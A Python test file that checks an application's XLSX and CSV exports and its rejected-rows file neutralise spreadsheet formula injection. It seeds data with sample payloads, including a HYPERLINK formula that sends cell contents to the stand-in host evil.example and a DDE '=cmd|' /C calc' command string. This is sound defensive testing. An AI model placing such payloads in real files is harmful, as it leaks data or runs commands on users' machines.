"""Exports cannot carry a live formula or break on a control character (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from starlette.testclient import TestClient

from tests.conftest import bearer, graphql

PLAN = "injection-plan"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'
COMMAND = "=cmd|' /C calc'!A0"
ADD_PLAN = """mutation($input: AddPlanInput!) { addPlan(input: $input) { __typename ... on UserError { message } } }"""


def add_plan(client: TestClient, cypher) -> None:
    target = {"goal": 10, "unit": "人", "unitEn": "people", "nameEn": "x"}
    plan = {
        "code": PLAN,
        "name": "注入测试",
        "startsOn": "2090-01-01",
        "deadline": "2095-12-31",
        "targets": [
            {**target, "code": "titled-staff", "name": FORMULA},
            {**target, "code": "innovation-teams", "name": "-2+3"},
            {**target, "code": "innovation-projects", "name": "@SUM(1+1)"},
        ],
    }
    assert graphql(client, ADD_PLAN, {"input": plan})["data"]["addPlan"]["__typename"] == "PlanAdded"
    # A name stored before names were checked: a bell and a vertical tab, which XML cannot hold.
    cypher(
        "MATCH (t:Target {code: 'innovation-projects'})-[:IN_PLAN]->(:Plan {code: $plan}) SET t.name = $name",
        plan=PLAN,
        name="项目\x07数\x0b",
    )


def remove_plan(cypher) -> None:
    cypher("MATCH (p:Plan {code: $plan}) OPTIONAL MATCH (t:Target)-[:IN_PLAN]->(p) DETACH DELETE p, t", plan=PLAN)


def test_progress_xlsx_holds_target_names_as_text_never_as_formulas(client: TestClient, cypher) -> None:
    add_plan(client, cypher)
    try:
        for key in (True, None):  # an administrator and an anonymous caller
            headers = {} if key is True else bearer(None)
            response = client.get("/export/progress.xlsx", params={"plan": PLAN, "asOf": "2091-01-01"}, headers=headers)
            assert response.status_code == 200, response.text
            sheet = load_workbook(io.BytesIO(response.content)).active
            cells = [cell for row in sheet.iter_rows() for cell in row]
            assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
            names = [row[0].value for row in sheet.iter_rows(min_row=2)]
            assert [name.removeprefix("'") for name in names] == [FORMULA, "-2+3", "项目␇数␋"]
            assert names[:2] == ["'" + FORMULA, "'-2+3"]
            # Numbers stay numbers.
            assert sheet.cell(row=2, column=2).value == 10 and sheet.cell(row=2, column=2).data_type == "n"
    finally:
        remove_plan(cypher)


def test_progress_csv_quotes_text_and_prefixes_formula_starts(client: TestClient, cypher) -> None:
    add_plan(client, cypher)
    try:
        response = client.get("/export/progress.csv", params={"plan": PLAN, "asOf": "2091-01-01"})
        assert response.status_code == 200
        text = response.content.decode("utf-8-sig")
        lines = text.splitlines()
        assert lines[1].startswith("\"'=HYPERLINK(") and lines[2].startswith('"\'-2+3",10.0,')
        rows = list(csv.reader(io.StringIO(text)))
        assert [row[0] for row in rows[1:]] == ["'" + FORMULA, "'-2+3", "项目␇数␋"]
        assert "\x07" not in text and "\x0b" not in text
    finally:
        remove_plan(cypher)


def test_the_rejected_rows_file_neutralises_formulas(tmp_path) -> None:
    from loaders.errors import RowError
    from loaders.load import write_rejected

    source = tmp_path / "teams.csv"
    source.write_text(
        "team_id,name,institution,fields,leader,origin\n"
        f'T1,"{COMMAND.replace(chr(34), chr(34) * 2)}",承德医学院,NEW_MATERIALS,张伟,INTRODUCED\n'
        "T2,+SUM(A1:A9),承德医学院,NEW_MATERIALS,@李四,INTRODUCED\n",
        encoding="utf-8",
    )
    target = write_rejected(
        source,
        "teams",
        {2, 3},
        [RowError(2, "name", "bad", "错"), RowError(3, "leader", "bad", "错")],
    )
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    assert rows[1][:6] == ["2", "T1", "'" + COMMAND, "承德医学院", "NEW_MATERIALS", "张伟"]
    assert rows[2][2] == "'+SUM(A1:A9)" and rows[2][5] == "'@李四"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
